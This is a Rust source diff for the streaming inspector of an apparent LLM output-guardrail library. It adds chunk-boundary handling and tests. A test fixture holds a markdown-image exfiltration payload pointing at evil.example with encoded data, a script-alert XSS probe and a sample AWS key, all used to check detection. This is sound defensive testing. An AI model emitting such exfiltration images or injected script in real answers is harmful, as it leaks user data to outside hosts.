@@ -1,18 +1,42 @@
 //! Incremental inspection of a streamed answer.
 //!
-//! Each pushed chunk is appended to a pending buffer; the inspector emits the part of the
-//! buffer that no future chunk can change and holds back the tail that could still become
-//! part of a match (a card number or a key split across chunks) or of a pseudonym token.
-//! `finish` inspects and flushes the rest.
+//! Each pushed chunk is appended to a pending buffer. The inspector emits the part of the
+//! buffer that no future chunk can change and holds back only the tail that could still
+//! become part of a match or of a pseudonym token:
+//!
+//! 1. **Hold-back bound.** Every detector tells how many bytes at the end of the pending
+//!    text could still become part of a match ([`Detector::pending_tail`], at most its
+//!    [`Detector::max_match_len`]); the inspector holds back the maximum of these, plus
+//!    an unclosed `<TOKEN_N` that may be a pseudonym split across chunks.
+//! 2. **Word boundary.** The cut is moved back to the start of the word it falls in (by at
+//!    most [`WORD_SNAP`] bytes), and the character before the cut is kept as context for
+//!    the next window, so that `\b` and `^` behave as they do on the whole text.
+//! 3. **No split findings.** If a finding straddles the cut, the cut moves before it: the
+//!    finding is decided with the next chunk. Only a finding that keeps growing past
+//!    [`MAX_PENDING`] bytes is split (each part is reported and acted on).
+//!
+//! Work per chunk is bounded: each push inspects the pending text (at most the hold-back
+//! bound, plus the chunk, plus one word) and never the history, so a stream costs
+//! O(n + chunks × bound); the delay is at most one chunk plus the hold-back bound.
+//! Findings carry code-point offsets into the whole stream. Emitted text has the
+//! session's pseudonyms restored; a token is never split across two emits.
+//!
+//! Detectors that score the text as a whole (the injection classifier, banned topics
+//! with `min_matches > 1`, system-prompt overlap) see one window at a time in a stream.
+//!
+//! [`Detector::pending_tail`]: crate::Detector::pending_tail
+//! [`Detector::max_match_len`]: crate::Detector::max_match_len
 
+use crate::detectors::Detections;
 use crate::engine::{Context, Guard};
 use crate::error::GuardError;
 use crate::session::Session;
 use rampart_core::{Decision, Finding, FindingKind};
 
-/// How many bytes at the end of the buffer are held back at least: longer than any match
-/// a detector anchors on a single line (keys, cards, IBANs, e-mails).
-const HOLD_BACK: usize = 256;
+/// How far back the cut may move to land at the start of a word.
+pub const WORD_SNAP: usize = 256;
+/// Pending text beyond which a finding that keeps growing is split rather than waited for.
+pub const MAX_PENDING: usize = 64 * 1024;
 
 /// The result of one step of a stream.
 #[derive(Debug, Default, Clone, PartialEq)]
@@ -23,6 +47,8 @@ pub struct StreamStep {
     pub findings: Vec<Finding>,
     /// Set when the policy blocks the answer: stop forwarding and end the stream.
     pub blocked_by: Option<(FindingKind, String)>,
+    /// The highest injection / jailbreak score seen in this step's window.
+    pub injection_score: f32,
 }
 
 /// An incremental inspector; create it with [`Guard::stream`].
@@ -30,6 +56,8 @@ pub struct StreamStep {
 pub struct StreamInspector<'g> {
     guard: &'g Guard,
     ctx: Context,
+    /// The last emitted character, kept as look-behind context for the next window.
+    context: String,
     pending: String,
     /// Code points already emitted, to offset findings into the whole stream.
     emitted_chars: usize,
@@ -41,6 +69,7 @@ impl<'g> StreamInspector<'g> {
         StreamInspector {
             guard,
             ctx,
+            context: String::new(),
             pending: String::new(),
             emitted_chars: 0,
             blocked: false,
@@ -53,15 +82,7 @@ impl<'g> StreamInspector<'g> {
             return Ok(StreamStep::default());
         }
         self.pending.push_str(chunk);
-        let hold = HOLD_BACK.max(session.longest_token());
-        if self.pending.len() <= hold {
-            return Ok(StreamStep::default());
-        }
-        let mut cut = self.pending.len() - hold;
-        while !self.pending.is_char_boundary(cut) {
-            cut -= 1;
-        }
-        self.step(cut, session)
+        self.step(false, session)
     }
 
     /// End of stream: inspect and flush everything held back.
@@ -69,34 +90,93 @@ impl<'g> StreamInspector<'g> {
         if self.blocked {
             return Ok(StreamStep::default());
         }
-        let len = self.pending.len();
-        self.step(len, session)
+        self.step(true, session)
     }
 
-    /// Inspect the whole pending buffer, emit up to `cut` bytes (moved back so that no
-    /// finding straddles the cut), keep the rest.
-    fn step(&mut self, cut: usize, session: &mut Session) -> Result<StreamStep, GuardError> {
-        let detections = self.guard.detect(&self.pending, self.ctx)?;
-        let cut_cp = self.pending[..cut].chars().count();
-        let straddling = detections
-            .findings
-            .iter()
-            .filter(|f| f.start < cut_cp && f.end > cut_cp)
-            .map(|f| f.start)
-            .min();
-        let cut_cp = straddling.unwrap_or(cut_cp);
-        let mut cut = self
-            .pending
-            .char_indices()
-            .nth(cut_cp)
-            .map_or(self.pending.len(), |(b, _)| b);
-        if cut < self.pending.len() {
-            cut = before_open_token(&self.pending[..cut], session.longest_token());
+    /// Whether the policy blocked the stream.
+    pub fn is_blocked(&self) -> bool {
+        self.blocked
+    }
+
+    /// Bytes received but not yet emitted.
+    pub fn pending_len(&self) -> usize {
+        self.pending.len()
+    }
+
+    fn step(&mut self, last: bool, session: &mut Session) -> Result<StreamStep, GuardError> {
+        let len = self.pending.len();
+        let mut cut = if last {
+            len
+        } else {
+            let hold = self
+                .guard
+                .pending_tail(&self.pending, self.ctx, session)
+                .max(open_token_tail(&self.pending, session.longest_token()));
+            let cut = floor_char_boundary(&self.pending, len - hold.min(len));
+            word_start(&self.pending, cut)
+        };
+        if cut == 0 && !(last && len > 0) {
+            return Ok(StreamStep::default());
         }
-        let cut_cp = self.pending[..cut].chars().count();
-        let head: String = self.pending[..cut].to_owned();
-        // Tokens may straddle the cut: only restore in text that is final.
-        let inspection = self.guard.inspect(&head, self.ctx, session)?;
+
+        // Inspect the window: the look-behind character and the pending text.
+        let context_chars = self.context.chars().count();
+        let mut window = String::with_capacity(self.context.len() + len);
+        window.push_str(&self.context);
+        window.push_str(&self.pending);
+        let Detections {
+            findings,
+            injection_score,
+        } = self.guard.detect_with(&window, self.ctx, Some(session))?;
+        let mut findings: Vec<Finding> = findings
+            .into_iter()
+            .filter(|f| f.start >= context_chars)
+            .map(|mut f| {
+                f.start -= context_chars;
+                f.end -= context_chars;
+                f
+            })
+            .collect();
+
+        // Move the cut before findings that straddle it (unless pending text grew too long).
+        let mut cut_cp = self.pending[..cut].chars().count();
+        if !last && len <= MAX_PENDING.max(4 * self.guard.max_match_len()) {
+            loop {
+                let straddling = findings
+                    .iter()
+                    .filter(|f| f.start < cut_cp && f.end > cut_cp)
+                    .map(|f| f.start)
+                    .min();
+                match straddling {
+                    Some(start) => cut_cp = start,
+                    None => break,
+                }
+            }
+            cut = byte_of_char(&self.pending, cut_cp);
+            let token_cut = before_open_token(&self.pending[..cut], session.longest_token());
+            if token_cut != cut {
+                cut = token_cut;
+                cut_cp = self.pending[..cut].chars().count();
+            }
+            if cut == 0 {
+                return Ok(StreamStep::default());
+            }
+        }
+        findings.retain(|f| f.start < cut_cp);
+        for f in &mut findings {
+            f.end = f.end.min(cut_cp);
+        }
+
+        let head = &self.pending[..cut];
+        let inspection = self.guard.apply(
+            head,
+            Detections {
+                findings,
+                injection_score,
+            },
+            self.ctx,
+            session,
+        );
         let offset = self.emitted_chars;
         let findings = inspection
             .findings
@@ -109,12 +189,17 @@ impl<'g> StreamInspector<'g> {
             .collect();
         if inspection.decision == Decision::Block {
             self.blocked = true;
-            self.pending.clear();
+            self.pending = String::new();
             return Ok(StreamStep {
                 emit: String::new(),
                 findings,
                 blocked_by: inspection.blocked_by,
+                injection_score,
             });
+        }
+        self.context.clear();
+        if let Some(c) = head.chars().next_back() {
+            self.context.push(c);
         }
         self.pending.drain(..cut);
         self.emitted_chars += cut_cp;
@@ -122,21 +207,72 @@ impl<'g> StreamInspector<'g> {
             emit: session.restore(&inspection.text),
             findings,
             blocked_by: None,
+            injection_score,
         })
+    }
+}
+
+/// The largest character boundary of `s` at or before `i`.
+fn floor_char_boundary(s: &str, mut i: usize) -> usize {
+    i = i.min(s.len());
+    while !s.is_char_boundary(i) {
+        i -= 1;
+    }
+    i
+}
+
+/// The byte offset of code point `cp` in `s` (its length past the end).
+fn byte_of_char(s: &str, cp: usize) -> usize {
+    s.char_indices().nth(cp).map_or(s.len(), |(b, _)| b)
+}
+
+/// `cut` moved back to the start of the word it falls in (after white space), by at most
+/// [`WORD_SNAP`] bytes.
+fn word_start(s: &str, cut: usize) -> usize {
+    if cut == 0 || cut >= s.len() {
+        return cut;
+    }
+    let before = &s[..cut];
+    if before.ends_with(char::is_whitespace) {
+        return cut;
+    }
+    let mut floor = cut.saturating_sub(WORD_SNAP);
+    while !before.is_char_boundary(floor) {
+        floor += 1;
+    }
+    match before[floor..].rfind(char::is_whitespace) {
+        Some(i) => {
+            let ws = floor + i;
+            ws + before[ws..].chars().next().map_or(1, char::len_utf8)
+        }
+        None if floor == 0 => 0,
+        None => cut,
+    }
+}
+
+/// Bytes at the end of `text` that may be the beginning of a pseudonym token
+/// (`<EMAIL_ADDRESS_1>`): an unclosed `<` followed only by token characters.
+fn open_token_tail(text: &str, longest_token: usize) -> usize {
+    if longest_token == 0 {
+        return 0;
+    }
+    let window_start = floor_char_boundary(text, text.len().saturating_sub(longest_token));
+    match text[window_start..].rfind('<') {
+        Some(i)
+            if text[window_start + i + 1..]
+                .bytes()
+                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_') =>
+        {
+            text.len() - (window_start + i)
+        }
+        _ => 0,
     }
 }
 
 /// Where to cut `head` so that a pseudonym token is never split: before a `<` that is
 /// not closed within the last `longest_token` bytes.
 fn before_open_token(head: &str, longest_token: usize) -> usize {
-    if longest_token == 0 {
-        return head.len();
-    }
-    let window_start = head.len().saturating_sub(longest_token);
-    match head[window_start..].rfind('<') {
-        Some(i) if !head[window_start + i..].contains('>') => window_start + i,
-        _ => head.len(),
-    }
+    head.len() - open_token_tail(head, longest_token)
 }
 
 #[cfg(test)]
@@ -144,15 +280,39 @@ mod tests {
     use super::*;
     use crate::policy::Policy;
 
-    fn run(chunks: &[&str], session: &mut Session) -> String {
-        let guard = Guard::new(Policy::default()).unwrap();
+    fn run_with(guard: &Guard, chunks: &[&str], session: &mut Session) -> (String, Vec<Finding>) {
         let mut s = guard.stream(Context::output());
         let mut out = String::new();
+        let mut findings = Vec::new();
         for c in chunks {
-            out.push_str(&s.push(c, session).unwrap().emit);
+            let step = s.push(c, session).unwrap();
+            out.push_str(&step.emit);
+            findings.extend(step.findings);
         }
-        out.push_str(&s.finish(session).unwrap().emit);
-        out
+        let step = s.finish(session).unwrap();
+        out.push_str(&step.emit);
+        findings.extend(step.findings);
+        (out, findings)
+    }
+
+    fn run(chunks: &[&str], session: &mut Session) -> String {
+        let guard = Guard::new(Policy::default()).unwrap();
+        run_with(&guard, chunks, session).0
+    }
+
+    /// Split `text` into pieces of `size` bytes (moved forward to character boundaries).
+    fn chunked(text: &str, size: usize) -> Vec<&str> {
+        let mut chunks = Vec::new();
+        let mut i = 0;
+        while i < text.len() {
+            let mut j = (i + size).min(text.len());
+            while !text.is_char_boundary(j) {
+                j += 1;
+            }
+            chunks.push(&text[i..j]);
+            i = j;
+        }
+        chunks
     }
 
     #[test]
@@ -182,17 +342,97 @@ mod tests {
     #[test]
     fn multibyte_text_survives_arbitrary_chunking() {
         let text = "¿Qué tal? 日本語 ".repeat(40);
-        let bytes = text.as_bytes();
-        let mut chunks = Vec::new();
-        let mut i = 0;
-        while i < bytes.len() {
-            let mut j = (i + 7).min(bytes.len());
-            while !text.is_char_boundary(j) {
-                j += 1;
-            }
-            chunks.push(&text[i..j]);
-            i = j;
+        assert_eq!(run(&chunked(&text, 7), &mut Session::new()), text);
+    }
+
+    #[test]
+    fn chunked_output_equals_whole_text_inspection() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        let text = "Contact ana@example.es or bo@example.org. Key AKIAIOSFODNN7EXAMPLE here. \
+                    ![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and \
+                    <script>alert(1)</script> — café ✓ "
+            // Few enough repetitions to stay under the detectors' per-text caps on
+            // findings (e.g. the injection heuristics' MAX_HITS): past a cap, whole-text
+            // inspection legitimately reports fewer findings than chunked inspection.
+            .repeat(12);
+        let whole = guard
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        for size in [1, 2, 3, 5, 16, 64, 300, 5000] {
+            let (out, findings) = run_with(&guard, &chunked(&text, size), &mut Session::new());
+            assert_eq!(out, whole.text, "chunk size {size}");
+            assert_eq!(findings, whole.findings, "chunk size {size}");
         }
-        assert_eq!(run(&chunks, &mut Session::new()), text);
+    }
+
+    #[test]
+    fn held_back_tail_is_short_for_prose() {
+        // Output prose: only the last word (and the default 256-byte bound of the
+        // built-in PII and secret detectors) is held back, not the whole stream.
+        let guard = Guard::new(Policy::default()).unwrap();
+        let mut s = guard.stream(Context::output());
+        let mut session = Session::new();
+        let mut emitted = 0;
+        let text = "the quick brown fox jumps over the lazy dog ".repeat(200);
+        for c in chunked(&text, 40) {
+            emitted += s.push(c, &mut session).unwrap().emit.len();
+            assert!(
+                s.pending_len() <= 256 + 40 + WORD_SNAP,
+                "{}",
+                s.pending_len()
+            );
+        }
+        assert!(emitted >= text.len() - 600, "{emitted}");
+    }
+
+    #[test]
+    fn blocking_finding_stops_the_stream() {
+        let guard =
+            Guard::new(Policy::from_toml_str("[output]\nsecret = \"block\"\n").unwrap()).unwrap();
+        let mut session = Session::new();
+        let mut s = guard.stream(Context::output());
+        let filler = "ok ".repeat(100);
+        let first = s.push(&filler, &mut session).unwrap();
+        assert!(first.blocked_by.is_none());
+        let step = s
+            .push("AKIAIOSFODNN7EXAMPLE and more", &mut session)
+            .unwrap();
+        let fin = s.finish(&mut session).unwrap();
+        let blocked = step.blocked_by.or(fin.blocked_by);
+        assert_eq!(
+            blocked,
+            Some((FindingKind::Secret, "AWS_ACCESS_KEY".to_owned()))
+        );
+        assert!(s.is_blocked());
+        assert_eq!(s.push("more", &mut session).unwrap(), StreamStep::default());
+    }
+
+    #[test]
+    fn finding_offsets_are_relative_to_the_whole_stream() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        let filler = "é ".repeat(400);
+        let (_, findings) = run_with(
+            &guard,
+            &[&filler, "mail ana@", "example.es now"],
+            &mut Session::new(),
+        );
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].start, 800 + 5);
+        assert_eq!(findings[0].end, 800 + 5 + 14);
+    }
+
+    #[test]
+    fn empty_stream_and_empty_chunks() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        let (out, f) = run_with(&guard, &["", "", ""], &mut Session::new());
+        assert_eq!((out.as_str(), f.len()), ("", 0));
+    }
+
+    #[test]
+    fn open_token_tail_only_holds_token_like_text() {
+        assert_eq!(open_token_tail("abc <EMAIL_AD", 17), "<EMAIL_AD".len());
+        assert_eq!(open_token_tail("abc <b>", 17), 0);
+        assert_eq!(open_token_tail("a < b", 17), 0);
+        assert_eq!(open_token_tail("abc <EMAIL_AD", 0), 0);
     }
 }
